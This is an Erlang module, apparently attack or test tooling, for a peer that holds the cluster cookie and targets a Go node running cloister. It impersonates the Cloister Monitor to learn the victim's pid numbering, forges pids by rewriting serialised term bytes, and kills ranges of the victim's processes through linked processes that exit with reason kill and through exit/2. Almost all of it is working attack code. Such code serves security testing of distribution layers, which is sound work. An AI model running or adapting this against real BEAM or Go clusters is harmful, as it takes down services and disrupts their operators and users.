%% A cookie-holding BEAM peer that tries to switch cloister off on a Go
%% node: it learns the victim's pid layout from a probe, then links to a
%% range of the victim's pids and dies with reason kill, so that every
%% process it linked to gets a kill exit signal. Also: exit/2, forged
%% control frames through the distribution, and supervisor calls.
-module(attacker).
-export([fake_monitor/0, learn_pid/2, pid_on/2, kill_range/5, exit2_range/4,
         call/3, sup/3]).

-define(MONITOR, 'Elixir.Cloister.Monitor').

%% fake_monitor() registers a process under the Monitor's name that
%% remembers the latest pid of every node that calls it (the victim's
%% Monitor probes back a node that asked for its state) and answers
%% something no Monitor would, so the attacker never becomes a member.
fake_monitor() ->
    case whereis(?MONITOR) of
        undefined ->
            Pid = spawn(fun() -> fake_loop(#{}) end),
            register(?MONITOR, Pid),
            ok;
        _ -> ok
    end.

fake_loop(Seen) ->
    receive
        {'$gen_call', {From, _} = Tag, _Req} ->
            gen:reply(Tag, not_a_monitor),
            fake_loop(Seen#{node(From) => From});
        {forget, Node} ->
            fake_loop(maps:remove(Node, Seen));
        {seen, Node, ReplyTo} ->
            ReplyTo ! {seen, maps:get(Node, Seen, undefined)},
            fake_loop(Seen);
        _ ->
            fake_loop(Seen)
    end.

%% learn_pid(Victim, Timeout) asks the victim's Monitor for its state (the
%% victim then probes us back) and returns a pid of the victim's, learnt
%% from that probe.
learn_pid(Victim, Timeout) ->
    ok = fake_monitor(),
    ?MONITOR ! {forget, Victim},
    _ = (catch gen_server:call({?MONITOR, Victim}, state, Timeout)),
    wait_seen(Victim, erlang:monotonic_time(millisecond) + Timeout).

wait_seen(Victim, Deadline) ->
    ?MONITOR ! {seen, Victim, self()},
    receive {seen, P} when is_pid(P) -> P;
            {seen, _} ->
                case erlang:monotonic_time(millisecond) > Deadline of
                    true -> no_probe;
                    false -> timer:sleep(50), wait_seen(Victim, Deadline)
                end
    after 1000 -> no_answer
    end.

%% pid_on(P, N) is the pid with number N on P's node (same serial and
%% creation): pids of a Go node are numbered from 1000 in start order.
pid_on(P, N) ->
    B = term_to_binary(P),
    S = byte_size(B) - 12,
    <<H:S/binary, _:32, Serial:32, Creation:32>> = B,
    binary_to_term(<<H/binary, N:32, Serial:32, Creation:32>>).

%% kill_range(P, From, To, Rounds, GapMs): Rounds times, GapMs apart, a
%% process per pid in From..To on P's node links to it and exits with
%% reason kill. Returns how many links were attempted.
kill_range(P, From, To, Rounds, GapMs) ->
    lists:foreach(
      fun(R) ->
              [spawn(fun() -> link(pid_on(P, N)), exit(kill) end) || N <- lists:seq(From, To)],
              case R < Rounds of true -> timer:sleep(GapMs); false -> ok end
      end, lists:seq(1, Rounds)),
    Rounds * (To - From + 1).

%% exit2_range(P, From, To, Reason): exit/2 to every pid in From..To.
exit2_range(P, From, To, Reason) ->
    [exit(pid_on(P, N), Reason) || N <- lists:seq(From, To)],
    To - From + 1.

%% call(Dest, Req, Timeout): a gen_server call that cannot hang.
call(Dest, Req, Timeout) ->
    try gen_server:call(Dest, Req, Timeout)
    catch exit:{timeout, _} -> timeout;
          exit:{Reason, _} -> {exit, Reason}
    end.

%% sup(F, Args, Timeout): supervisor:F(Args...) (whose calls wait for
%% ever) in a process of its own, bounded.
sup(F, Args, Timeout) ->
    Self = self(),
    Ref = make_ref(),
    Pid = spawn(fun() -> Self ! {Ref, catch apply(supervisor, F, Args)} end),
    receive {Ref, R} -> R
    after Timeout -> exit(Pid, kill), timeout
    end.
